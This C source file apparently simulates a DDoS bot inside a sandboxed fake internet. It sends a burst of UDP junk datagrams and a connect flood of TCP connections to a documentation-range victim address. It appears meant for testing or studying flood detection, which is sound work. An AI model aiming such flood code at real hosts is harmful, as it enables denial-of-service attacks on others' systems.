/* Imitates a DDoS bot's floods against one victim of the fake internet: a burst of UDP datagrams and a
 * burst of TCP connections opened and dropped at once (connect flood). */
#include <arpa/inet.h>
#include <string.h>
#include <unistd.h>

int main(void) {
  struct sockaddr_in victim = { .sin_family = AF_INET, .sin_port = htons(80) };
  inet_pton(AF_INET, "198.51.100.99", &victim.sin_addr);
  int udp = socket(AF_INET, SOCK_DGRAM, 0);
  char junk[512];
  memset(junk, 'A', sizeof junk);
  for (int i = 0; i < 500; i++) {
    victim.sin_port = htons((unsigned short)(1024 + i));
    sendto(udp, junk, sizeof junk, 0, (struct sockaddr *)&victim, sizeof victim);
  }
  close(udp);
  victim.sin_port = htons(80);
  for (int i = 0; i < 150; i++) {
    int sock = socket(AF_INET, SOCK_STREAM, 0);
    connect(sock, (struct sockaddr *)&victim, sizeof victim);
    close(sock);
  }
  return 0;
}
